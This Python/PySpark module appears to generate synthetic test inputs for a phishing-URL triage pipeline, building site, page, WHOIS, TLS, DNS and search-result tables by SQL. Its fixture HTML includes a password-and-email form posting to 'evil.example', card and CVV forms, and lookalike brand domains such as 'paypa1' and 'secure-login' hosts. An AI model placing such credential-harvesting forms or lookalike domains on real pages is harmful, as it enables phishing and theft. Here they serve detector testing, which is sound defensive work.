"""Input tables derived from the supplied ``pages`` by closed-form SQL.

The same text runs in Spark (``{pages}`` bound to the scanned table) and, as
common table expressions, in the comparison SQL.  So the inputs grow with the
supplied tables and both engines see identical rows.
"""

from __future__ import annotations

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

from urltriage.functions.text import as_timestamp, clean_list
from urltriage.operators.suffix import inline_table
from urltriage.sources.readers import spread

AS_OF = "2025-01-01 00:00:00"
BRANDS = ("acme", "paypal", "cipriani")
KEYWORDS = (("acme", 0), ("paypal", 1))
SUFFIXES = ("com", "xyz", "top", "info", "com.pe", "net", "co.uk", "org", "pe", "uk")

_SITE_DOMAIN = """concat(case page_id % 10 when 0 then 'paypa1' when 1 then 'gogle' when 2 then 'acme'
   when 3 then 'acme-outlet' else concat('site', cast(page_id % 97 as string)) end, '.',
   case page_id % 8 when 0 then 'com' when 1 then 'xyz' when 2 then 'top' when 3 then 'info'
   when 4 then 'com.pe' when 5 then 'net' when 6 then 'co.uk' else 'org' end)"""
_SITE_PREFIX = "case when page_id % 7 = 3 then '://secure-login.a.' else '://' end"
_SITE_URL = (
    "replace(replace(replace(replace(url,'example.com',x),'example.net',x),'example.org',x),'://',p)"
)

# Pages whose address or content makes the rarer page rules fire.
_PAGE_URL = f"""case page_id % 25 when 1 then concat('https://www.acm3.com/p', cast(page_id as string))
  when 2 then concat('https://shop.nordstrom.com/p', cast(page_id as string))
  when 3 then concat('https://www.cipriani.com/p', cast(page_id as string))
  when 4 then concat('https://acme-shop', cast(page_id % 7 as string), '.net/p', cast(page_id as string))
  when 5 then concat('https://other', cast(page_id % 7 as string), '.org/acme/p', cast(page_id as string))
  else {_SITE_URL} end"""
_PAGE_BRAND = """case when page_id % 25 = 3 then 'cipriani' when page_id % 25 in (1, 2, 4, 5) then 'acme'
  when page_id % 2 = 0 then 'acme' else 'paypal' end"""
_PAGE_HTML = """case page_id % 25
  when 7 then '<html><body><p>Short page</p><form action="/go"><input name="q"></form></body></html>'
  when 8 then replace(html, '</body>', concat(repeat('<a href="https://outside.example/x">e</a>', 80), '</body>'))
  when 9 then '<html><head><title>How to avoid a scam</title></head><body><p>Guide for readers.</p></body></html>'
  when 10 then concat('<html><body><p>Shop</p>', repeat('<img src="/p.png">', 22), '</body></html>')
  else html end"""

SQL = {
    "fx_sites": f"""
select page_id, 1 + page_id % 50 as rank,
 case when page_id % 2 = 0 then 'acme' else 'paypal' end as keyword,
 {_SITE_URL} as original_url,
 t as title, concat('snippet ', cast(page_id as string)) as snippet, x as base_domain_expected
from (select page_id, url, {_SITE_DOMAIN} as x, {_SITE_PREFIX} as p,
  case page_id % 9 when 0 then 'Login to your account' when 1 then 'How to avoid a scam'
   when 2 then 'Acme sale limited offer' when 3 then 'Hurry free discount' when 4 then ''
   else 'Plain title' end as t
  from {{pages}}) s""",
    "fx_hits": """
select keyword, rank, original_url, title, snippet from {fx_sites}
union all
select keyword, rank + 1000 as rank, concat(original_url, '#dup') as original_url, title, snippet
from {fx_sites} where page_id % 5 = 0""",
    "fx_facts": """
select base_domain_expected as base_domain, n,
 case n % 5 when 0 then null when 1 then ' ' else concat('Registrar ', cast(n % 5 as string)) end as registrar,
 (n * 37) % 900 as age_days,
 case when n % 3 = 0 then '' else concat('abuse@', base_domain_expected) end as emails_csv,
 n % 3 as mx_count,
 case when n % 6 = 0 then null else (n % 6) * 100 end as ttl,
 substring('10.0.0.1,10.0.0.2,10.0.0.3,10.0.0.4,10.0.0.5,10.0.0.6,10.0.0.7', 1, cast(greatest((n % 8) * 9 - 1, 0) as int)) as ip_csv,
 n % 4 as ns_count,
 case when n % 4 = 0 then '' when n % 2 = 0 then 'ns1.cloudflare.com' else 'ns1.host.example' end as ns_csv,
 n % 12 as stale_days,
 case when n % 41 = 0 then 'timeout' else null end as error
from (select base_domain_expected, min(page_id) as n from {fx_sites} group by base_domain_expected) g""",
    "fx_pages": """
select page_id, url, replace(html, '</body>', concat(case page_id % 12
 when 0 then '<form action="https://evil.example/x" method="POST"><input type="password" name="pw"><input type="email" name="mail"></form>'
 when 1 then '<form action="/pay"><input name="card_number"><input name="cvv"></form>'
 when 2 then '<form><input id="Email"></form><form><input></form><form></form>'
 when 3 then '<p>verify account login password free gift urgent act now replica</p>'
 when 4 then '<img src="/logo.png" alt="Acme Logo"><img src="/b.png"><button>Buy</button>'
 when 5 then repeat('<img src="/p.png">', 21)
 when 6 then '<a href="https://other.example/1">a</a><a href="//cdn.example/2">b</a><a href="mailto:x@y.z">c</a>'
 when 7 then '<meta name="Description" content="Guide to buying"><meta name="description" content="shop">'
 when 8 then '<p>cart checkout sale oferta limited stock claim now verify account</p><form><input type="password"></form>'
 else '' end, '</body>')) as html from {pages}""",
    "fx_fetch": f"""
select page_id, {_PAGE_BRAND} as brand,
 {_PAGE_URL} as url,
 case when page_id % 23 = 7 then null when page_id % 17 = 5 then 404 else 200 end as status,
 {_PAGE_URL} as final_url,
 case when page_id % 29 = 3 then '  ' else {_PAGE_HTML} end as html,
 case when page_id % 23 = 7 then 'timeout' else null end as error,
 x as base_domain_expected
from (select page_id, url, html, {_SITE_DOMAIN} as x, {_SITE_PREFIX} as p from {{fx_pages}}) s""",
    "fx_whois": """
select base_domain_expected as domain,
 concat('whois: whois.example', chr(10),
  case n % 4 when 0 then concat('Creation Date: ', d) when 1 then concat('Created On: ', d)
   when 2 then concat('registered on:  ', d) else 'No date' end, chr(10),
  case when n % 5 = 0 then concat('Registrant: REDACTED', chr(10)) else '' end,
  case when n % 7 = 0 then concat('Country: China', chr(10)) else '' end) as response_text
from (select base_domain_expected, n,
  concat(cast(2023 + n % 2 as string), '-', lpad(cast(1 + n % 12 as string), 2, '0'), '-',
   lpad(cast(1 + n % 28 as string), 2, '0')) as d
  from (select base_domain_expected, min(page_id) as n from {fx_sites} group by base_domain_expected) g) h""",
    "fx_tls": """
select host, n, (n * 13) % 120 as started_days_ago,
 case n % 4 when 0 then 'Let''s Encrypt' when 1 then 'DigiCert Inc' when 2 then 'Acme CA' else null end as issuer_org,
 case when n % 31 = 0 then 'handshake' else null end as error
from (select concat(case when page_id % 7 = 3 then 'secure-login.a.' else '' end,
   replace(replace(replace(substring(u, 1, case when instr(u, '/') > 0 then instr(u, '/') - 1 else length(u) end),
    'example.com', base_domain_expected), 'example.net', base_domain_expected), 'example.org', base_domain_expected)) as host,
   min(page_id) as n
  from (select s.page_id, s.base_domain_expected, substring(p.url, 9) as u
   from {pages} p join {fx_sites} s on p.page_id = s.page_id where p.url like 'https://%') q
  group by 1) t where n % 10 <> 9""",
    "fx_dns": """
select base_domain_expected as domain, 'MX' as rrtype, 1 as resolver_rank,
 concat('mx', cast(page_id % 3 as string), '.r1.', base_domain_expected, '.') as value,
 100 + 50 * (page_id % 9) as ttl, case when page_id % 3 = 0 then 'nxdomain' else 'ok' end as status from {fx_sites}
union all
select base_domain_expected, 'MX', 2, concat('mx', cast(page_id % 5 as string), '.r2.', base_domain_expected, '.'),
 100 + 50 * (page_id % 9), case when page_id % 2 = 1 then 'timeout' else 'ok' end from {fx_sites}
union all
select base_domain_expected, 'A', 1, concat('10.0.', cast(page_id % 7 as string), '.', cast(page_id % 250 as string)),
 100 + 50 * (page_id % 9), 'ok' from {fx_sites} where page_id % 8 <> 0
union all
select base_domain_expected, 'NS', 1, concat('ns', cast(page_id % 4 as string), '.host.example.'),
 100 + 50 * (page_id % 9), 'ok' from {fx_sites} where page_id % 4 <> 0""",
    "fx_serp_pages": """
select brand, concat(brand, ' query ', cast(query_seq as string)) as query, query_seq,
 concat('<html><body>', a0, a1, a2, a3, '<a class="other" href="https://skip.example/">x</a></body></html>') as html
from (select case when page_id % 2 = 0 then 'acme' else 'paypal' end as brand,
  cast(floor(page_id / 2) as int) as query_seq,
  concat('<div><a rel="nofollow" class="result__a" href="//duckduckgo.com/l/?uddg=',
   replace(replace(original_url, ':', '%3A'), '/', '%2F'), '&rut=1">one</a></div>') as a0,
  case when page_id % 13 = 0 then '<a class="result__a" href="">blank</a>'
   else concat('<a class="result__a" href="', original_url, '">two</a>') end as a1,
  case when page_id % 11 = 0 then concat('<a class="result__a" href="https://www.facebook.com/p', cast(page_id as string), '">three</a>')
   else concat('<a class="result__a" href="https://x', cast(page_id % 40 as string), '.shop.example/a+b%20c">three</a>') end as a2,
  case when page_id % 6 = 0 then '<a class="result__a" href="https://html.duckduckgo.com/y">four</a>' else '<a class="result__a">no link</a>' end as a3
 from {fx_sites}) s""",
    "fx_history_v1": """
select original_url as url, base_domain_expected as base_domain, (page_id % 100) / 100.0 as score,
 case when page_id % 100 >= 70 then 'phishing' when page_id % 100 >= 30 then 'suspect' else 'legit' end as category,
 page_id, page_id % 3 as hours, 0.5 as analysis_time_s
from {fx_sites}""",
}
_INPUTS = {
    "fx_sites": ["pages"],
    "fx_hits": ["fx_sites"],
    "fx_facts": ["fx_sites"],
    "fx_pages": ["pages"],
    "fx_fetch": ["fx_pages"],
    "fx_whois": ["fx_sites"],
    "fx_tls": ["pages", "fx_sites"],
    "fx_dns": ["fx_sites"],
    "fx_serp_pages": ["fx_sites"],
    "fx_history_v1": ["fx_sites"],
}


def cte(name: str) -> list[tuple[str, str]]:
    """Common table expressions (name, SQL) that build ``name``, inputs first."""
    if name == "pages":
        return []
    parts: list[tuple[str, str]] = []
    for needed in _INPUTS[name]:
        parts.extend(p for p in cte(needed) if p not in parts)
    return [*parts, (name, SQL[name].format(**{n: n for n in _INPUTS[name]}))]


def scan(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    return spread(spark.read.parquet(f"{sf_dir.rstrip("/")}/{name}.parquet"))


def derive(spark: SparkSession, sf_dir: str, name: str, pages: DataFrame | None = None) -> DataFrame:
    if name == "pages":
        return pages if pages is not None else scan(spark, sf_dir, "pages")
    inputs = {n: derive(spark, sf_dir, n, pages) for n in _INPUTS[name]}
    return spark.sql(SQL[name], **inputs)


def suffixes(spark: SparkSession) -> DataFrame:
    return inline_table(spark, [(s, "exact") for s in SUFFIXES], "suffix, rule_type")


def brands(spark: SparkSession) -> DataFrame:
    return inline_table(spark, [(b,) for b in BRANDS], "brand")


def keywords(spark: SparkSession) -> DataFrame:
    listed = inline_table(spark, [(k, str(i)) for k, i in KEYWORDS], "keyword, seq")
    return listed.withColumn("seq", F.col("seq").cast("int"))


def facts(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Typed domain facts from the comma-text form."""
    at = as_timestamp(AS_OF)

    def listed(name: str) -> Column:
        return clean_list(F.split(F.col(name), ","))

    def before(days: str, hours: int = 0) -> Column:
        return at - F.make_dt_interval(days=F.col(days).cast("int"), hours=F.lit(hours))

    return derive(spark, sf_dir, "fx_facts").select(
        "base_domain",
        "registrar",
        before("age_days").alias("creation_date"),
        F.lit(None).cast("timestamp").alias("expiration_date"),
        F.lit(None).cast("string").alias("country"),
        listed("emails_csv").alias("emails"),
        F.lit(None).cast("array<string>").alias("mx_records"),
        F.col("mx_count").cast("int").alias("mx_count"),
        listed("ip_csv").alias("ip"),
        F.col("ttl").cast("int").alias("ttl"),
        listed("ns_csv").alias("ns_records"),
        F.col("ns_count").cast("int").alias("ns_count"),
        "error",
        before("stale_days", 5).alias("last_updated"),
    )


def tls(spark: SparkSession, sf_dir: str) -> DataFrame:
    at = as_timestamp(AS_OF)
    start = at - F.make_dt_interval(days=F.col("started_days_ago").cast("int"))
    return derive(spark, sf_dir, "fx_tls").select(
        "host",
        "issuer_org",
        start.alias("not_before"),
        (start + F.make_dt_interval(days=F.lit(90))).alias("not_after"),
        "error",
    )
